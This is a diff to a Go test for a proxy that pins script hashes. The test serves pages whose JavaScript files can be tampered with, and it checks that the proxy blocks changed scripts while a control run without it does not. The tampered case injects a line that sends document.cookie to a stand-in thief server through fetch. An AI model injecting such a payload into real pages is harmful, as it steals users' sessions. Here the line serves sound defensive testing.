@@ -36,12 +36,14 @@ func newPinnedSite(t *testing.T) *pinnedSite {
 	steal := func(by string) string { return ";fetch('" + thief.URL + "/?" + by + "'+document.cookie)" }
 	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		switch r.URL.Path {
-		case "/static/app.js":
+		case "/static/app.js", "/static/module.js":
 			w.Header().Set("Content-Type", "text/javascript")
-			fmt.Fprint(w, `document.documentElement.dataset.app = "ran"`)
+			w.Header().Set("Cache-Control", "no-store")
+			how, more := "ran", ""
 			if s.fileBad.Load() {
-				fmt.Fprint(w, steal("file"))
+				how, more = "changed", steal("file")
 			}
+			fmt.Fprintf(w, `document.documentElement.dataset.%s = %q%s`, strings.TrimSuffix(strings.TrimPrefix(r.URL.Path, "/static/"), ".js"), how, more)
 		case "/":
 			w.Header().Set("Content-Type", "text/html; charset=utf-8")
 			more := ""
@@ -55,7 +57,8 @@ window.__STATE__ = {"visit": %d, "basket": [%s], "name": "O'Neil \u003cb>"};
 document.documentElement.dataset.visit = String(window.__STATE__.visit + window.__STATE__.basket.length)%s
 </script>
 <button onclick="document.documentElement.dataset.clicked='yes'">Buy</button>
-<script src="/static/app.js"></script>`, visit*100, strings.TrimSuffix(strings.Repeat(`{"id": 1},`, int(visit%4)), ","), more)
+<script src="/static/app.js"></script>
+<link rel="modulepreload" href="/static/module.js"><script type="module" src="/static/module.js"></script>`, visit*100, strings.TrimSuffix(strings.Repeat(`{"id": 1},`, int(visit%4)), ","), more)
 		default:
 			http.NotFound(w, r)
 		}
@@ -89,7 +92,7 @@ scripts:
 				out, err := exec.Command(program, append([]string{"pin", "--policy", policy, "http://" + address + "/"}, arguments...)...).CombinedOutput()
 				return string(out), err
 			}
-			if out, err := pin(); err != nil || !strings.Contains(out, "template sha384-") || !strings.Contains(out, "3 pinned, 3 changed, 0 not pinned") {
+			if out, err := pin(); err != nil || !strings.Contains(out, "template sha384-") || !strings.Contains(out, "4 pinned, 4 changed, 0 not pinned") {
 				t.Fatalf("%v\n%s", err, out)
 			}
 			if out, err := pin("--check"); err != nil {
@@ -98,9 +101,10 @@ scripts:
 			proxy := run(t, "serve", "--policy", policy)
 			proxy.waitFor(t, "msg=listening")
 			b := browsers.Start(t, engine)
-			ran := func(what string) bool {
-				return b.Eval(`return document.documentElement.dataset[arguments[0]] !== undefined`, what) == true
+			how := func(what string) any {
+				return b.Eval(`return document.documentElement.dataset[arguments[0]] ?? null`, what)
 			}
+			ran := func(what string) bool { return how(what) != nil }
 			open := func(url string) {
 				b.Open(url)
 				b.Eval(`document.cookie = "session=secret"`)
@@ -111,7 +115,7 @@ scripts:
 
 			for range 3 {
 				open("http://" + address + "/")
-				for _, what := range []string{"visit", "app", "clicked"} {
+				for _, what := range []string{"visit", "app", "module", "clicked"} {
 					if !ran(what) {
 						t.Errorf("what was pinned does not run: %s", what)
 					}
@@ -126,8 +130,9 @@ scripts:
 			site.inlineBad.Store(false)
 			site.fileBad.Store(true)
 			open("http://" + address + "/")
-			if ran("app") || !ran("visit") {
-				t.Errorf("the changed file runs: %t; the others do: %t", ran("app"), ran("visit"))
+			// WebKit may run the module as it was, out of its cache.
+			if how("app") == "changed" || how("module") == "changed" || !ran("visit") {
+				t.Errorf("the changed file: %v, as a module: %v; the others run: %t", how("app"), how("module"), ran("visit"))
 			}
 			site.inlineBad.Store(true)
 			if got := site.stolen.String(); got != "" {
@@ -147,6 +152,9 @@ scripts:
 				case <-time.After(20 * time.Second):
 					t.Errorf("control: without chatproxy %s is not stolen: %s", by, site.stolen.String())
 				}
+			}
+			if how("app") != "changed" || how("module") != "changed" {
+				t.Errorf("control: without chatproxy the changed file does not run: %v, as a module %v", how("app"), how("module"))
 			}
 		})
 	}
